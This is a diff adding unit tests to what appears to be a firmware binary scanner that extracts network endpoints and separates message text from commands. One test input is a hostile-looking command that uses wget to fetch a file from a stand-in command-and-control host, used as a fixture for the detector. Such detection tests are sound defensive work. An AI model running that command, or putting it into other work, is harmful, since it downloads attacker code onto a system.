@@ -52,6 +52,23 @@ TEST(ExtractEndpoints, DecoysAreNotEndpoints) {
   EXPECT_THAT(Hosts("user.id req.body this.name"), IsEmpty());
   EXPECT_THAT(Hosts("$SERVER/upload http://$HOST/x"), IsEmpty());
   EXPECT_THAT(Hosts("Vendor.Com", ExtractMode::kBinaryString), IsEmpty());
+  // libcrypto's strings: an OID with four arcs, an ASN.1 field name with a ccTLD-like suffix.
+  EXPECT_THAT(Hosts("X25519:1.3.101.110", ExtractMode::kBinaryString), IsEmpty());
+  EXPECT_THAT(Hosts("value.ir", ExtractMode::kBinaryString), IsEmpty());
+  // ...which a URL or a third label still makes a host.
+  EXPECT_THAT(Hosts("http://value.ir/x", ExtractMode::kBinaryString), ElementsAre("value.ir"));
+  EXPECT_THAT(Hosts("cc.evil.ir", ExtractMode::kBinaryString), ElementsAre("cc.evil.ir"));
+  EXPECT_THAT(Hosts("198.50.1.9", ExtractMode::kBinaryString), ElementsAre("198.50.1.9"));
+}
+
+TEST(IsProseString, MessagesAreProseCommandsAndBareAddressesAreNot) {
+  using internal::IsProseString;
+  EXPECT_TRUE(IsProseString("Please report as described in <http://www.debian.org/Bugs/>"));
+  EXPECT_TRUE(IsProseString("<http://www.debian.org/Bugs/>."));
+  EXPECT_TRUE(IsProseString("Dropbear SSH client v%s https://matt.ucc.asn.au/dropbear/"));
+  EXPECT_FALSE(IsProseString("http://api.telemetry.cn/v1"));
+  EXPECT_FALSE(IsProseString("cd /tmp && /usr/bin/wget -q http://c2.evil.ir/x"));
+  EXPECT_FALSE(IsProseString("ping -c 1 8.8.8.8"));
 }
 
 TEST(IsSpecialHost, RangesAndNames) {
@@ -182,6 +199,28 @@ TEST(BinaryScanner, StringsOfProgramsWindowsOnce) {
   EXPECT_THAT(out[0].message, ::testing::Not(HasSubstr("times")));
   EXPECT_EQ(out[0].evidence[0].offset, bytes.find("http://"));
   EXPECT_EQ(out[0].evidence[0].excerpt, "http://api.telemetry.cn/v1");
+  ASSERT_THAT(report.observations, SizeIs(1));
+  EXPECT_EQ(report.observations[0].name, "api.telemetry.cn");
+}
+
+TEST(BinaryScanner, EndpointInAMessageIsListedButNotObserved) {
+  auto scanner = FindCheck("CB-NET-001")->make_scanner({});
+  inventory::FileRecord f;
+  f.node.path = "/usr/sbin/dropbear";
+  f.node.provenance = "fw!squashfs:/usr/sbin/dropbear";
+  f.kind = inventory::FileKind::kElf;
+  std::string bytes = std::string("\x7f" "ELF") + '\0' +
+                      "Dropbear server v%s https://matt.ucc.asn.au/dropbear/dropbear.html" + '\0';
+  scanner->OnContent(f, 0, AsBytes(bytes));
+  inventory::Inventory inv;
+  AuditOptions opts;
+  AuditReport report;
+  AuditContext ctx(inv, opts, report);
+  std::vector<Finding> out;
+  scanner->Finish(ctx, out);
+  ASSERT_THAT(out, SizeIs(1));
+  EXPECT_THAT(out[0].message, HasSubstr("(in a message text)"));
+  EXPECT_THAT(report.observations, IsEmpty());
 }
 
 }  // namespace
